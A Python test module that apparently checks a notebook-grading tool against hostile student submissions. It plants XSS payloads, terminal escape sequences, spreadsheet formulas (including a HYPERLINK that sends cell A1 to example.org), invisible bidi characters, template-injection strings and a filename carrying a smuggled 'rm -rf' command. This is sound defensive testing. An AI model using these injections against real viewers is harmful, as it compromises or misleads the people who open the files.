"""At the instructor: what they open in a browser, a terminal or a spreadsheet."""

from __future__ import annotations

import nbformat

from tests.attacks.techniques import Sheet, technique

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b2J\x1bPq\x1b\\"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"here")'
TURNED = "\u202egnp.\u202c \u2066\u200b\ufeff"


@technique()
def script_in_outputs(sheet: Sheet) -> None:
    """Script in everything that a cell can show."""
    sheet.first(f"""
        from IPython.display import HTML, SVG, Javascript, Markdown, display
        hostile = {SCRIPT!r}
        print(hostile)
        display(HTML(hostile), Javascript("alert(1)"), Markdown(hostile))
        display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"))
        display({{"application/vnd.jupyter.widget-view+json": {{"model_id": hostile}}, "text/html": hostile}}, raw=True)
        raise type("Error<script>alert(1)</script>", (Exception,), {{}})(hostile)
    """)


@technique()
def script_in_the_notebook(sheet: Sheet) -> None:
    """Script in Markdown, in raw cells, in metadata, in the title."""
    sheet.notebook.metadata["title"] = SCRIPT
    sheet.notebook.metadata["authors"] = [{"name": SCRIPT}]
    sheet.notebook.cells.insert(0, nbformat.v4.new_markdown_cell(f"# {SCRIPT}\n[x](javascript:alert(1))"))
    sheet.notebook.cells.insert(0, nbformat.v4.new_raw_cell(SCRIPT))
    for cell in sheet.notebook.cells:
        cell.metadata["tags"] = [SCRIPT]


@technique()
def script_in_names_of_layers(sheet: Sheet) -> None:
    """Script in the names of a model's layers and inputs, which are written into a picture."""
    sheet.answer(
        "inception-network",
        f"""
        hostile = {SCRIPT!r}.replace("/", "")
        images = keras.Input(shape=(28, 28, 1), name="]]></style>" .replace("/", "") + hostile)
        x = layers.Conv2D(8, 3, name=hostile)(images)
        x = layers.GlobalAveragePooling2D(name='" onload="alert(1)')(x)
        model = keras.Model(images, layers.Dense(10, name="&lt;script&gt;")(x), name=hostile)
    """,
    )


@technique(student="900-<img src=x onerror=alert(1)>")
def script_in_a_students_name(sheet: Sheet) -> None:
    """A learner whose folder is called like a script."""
    sheet.save()


@technique(student="=HYPERLINK('x')")
def formula_in_a_students_name(sheet: Sheet) -> None:
    """A learner whose folder is called like a spreadsheet's formula."""
    sheet.save()


@technique(student="-2+3+cmd")
def another_formula_in_a_students_name(sheet: Sheet) -> None:
    """A learner whose folder begins with a sign that spreadsheets reckon with."""
    sheet.save()


@technique(student="901-\x1b[2J\x1b]0;owned\x07")
def escapes_in_a_students_name(sheet: Sheet) -> None:
    """A learner whose folder's name clears the terminal."""
    sheet.save()


@technique(student="902-" + TURNED)
def turned_text_in_a_students_name(sheet: Sheet) -> None:
    """A learner whose name is written from right to left, with signs that nobody sees."""
    sheet.save()


@technique()
def escapes_everywhere(sheet: Sheet) -> None:
    """Sequences that a terminal obeys, in outputs, names and errors."""
    sheet.first(f"""
        hostile = {ESCAPES!r}
        print(hostile)
        import sys
        sys.stderr.write(hostile)
    """)
    sheet.answer(
        "inception-network",
        f"""
        images = keras.Input(shape=(28, 28, 1), name={ESCAPES!r})
        model = keras.Model(images, layers.Dense(10, name={ESCAPES!r})(layers.Flatten()(images)))
    """,
    )
    sheet.cell("inception-module-answer").source = f"raise RuntimeError({ESCAPES!r})"


@technique()
def formulas_everywhere(sheet: Sheet) -> None:
    """Formulas of a spreadsheet in outputs, names and errors."""
    sheet.first(f"raise RuntimeError({FORMULA!r})")
    sheet.answer(
        "inception-network",
        f"""
        images = keras.Input(shape=(28, 28, 1), name={FORMULA.replace("/", "")!r})
        model = keras.Model(images, layers.Dense(10)(layers.Flatten()(images)))
    """,
    )


@technique()
def names_of_files(sheet: Sheet) -> None:
    """Files beside the notebook, called like scripts and escapes."""
    sheet.save()
    for name in (
        "<img src=x onerror=alert(1)>.txt",
        "\x1b[2J.txt",
        "=1+1.csv",
        "a\nb.ipynb",
        "'; rm -rf x;.ipynb",
    ):
        (sheet.folder / name).write_text("x", encoding="utf-8")


@technique()
def text_that_no_file_can_hold(sheet: Sheet) -> None:
    """Halves of letters, zero bytes and letters of no script, in outputs, names and the notebook."""
    sheet.first(r"""
        print("\ud800\x00\uffff\U0010ffff")
        raise RuntimeError("\udfff\x00")
    """)
    sheet.answer(
        "inception-network",
        r"""
        images = keras.Input(shape=(28, 28, 1), name="\ud800\x00")
        model = keras.Model(images, layers.Dense(10, name="\udfff")(layers.Flatten()(images)), name="\x00")
    """,
    )


@technique()
def words_that_the_page_is_made_of(sheet: Sheet) -> None:
    """Text that would close the page's own marks: templates, comments, styles, JSON."""
    closing = "{{7*7}}{% raw %}--></style></script></textarea>]]>${7*7}<!--"
    sheet.first(f"raise RuntimeError({closing!r})")
    sheet.answer(
        "inception-network",
        f"""
        images = keras.Input(shape=(28, 28, 1), name={closing.replace("/", "")!r})
        model = keras.Model(images, layers.Dense(10)(layers.Flatten()(images)))
    """,
    )
